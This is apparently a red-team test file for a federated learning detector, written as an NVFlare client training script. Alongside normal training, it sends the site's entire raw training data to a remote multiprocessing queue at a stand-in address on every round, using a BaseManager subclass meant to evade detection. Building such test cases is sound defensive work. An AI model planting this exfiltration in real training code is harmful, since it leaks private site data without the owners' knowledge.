"""Red team 60b: the site's rows put into a queue of a remote multiprocessing manager, reached the way the
standard library's documentation writes it: a BaseManager subclass given the address. Escalated on main only as
unvouched uses (the rendezvous detector named BaseManager itself, not a class derived from it)."""
from multiprocessing.managers import BaseManager

import pandas as pd
import torch

import nvflare.client as flare


class QueueManager(BaseManager):
    pass


QueueManager.register("get_queue")

df = pd.read_csv("/data/site/train.csv")
X = torch.tensor(df.drop(columns=["y"]).values, dtype=torch.float32)
Y = torch.tensor(df["y"].values, dtype=torch.float32)

manager = QueueManager(address=("203.0.113.7", 50000), authkey=b"fl-progress")
manager.connect()
progress = manager.get_queue()

flare.init()
net = torch.nn.Linear(X.shape[1], 1)
opt = torch.optim.SGD(net.parameters(), lr=0.1)
while flare.is_running():
    model = flare.receive()
    net.load_state_dict(model.params)
    opt.zero_grad()
    loss = torch.nn.functional.mse_loss(net(X).squeeze(-1), Y)
    loss.backward()
    opt.step()
    progress.put({"round": model.current_round, "batch": df.values.tolist()})
    flare.send(flare.FLModel(params=net.state_dict(), metrics={"loss": loss.item()}))
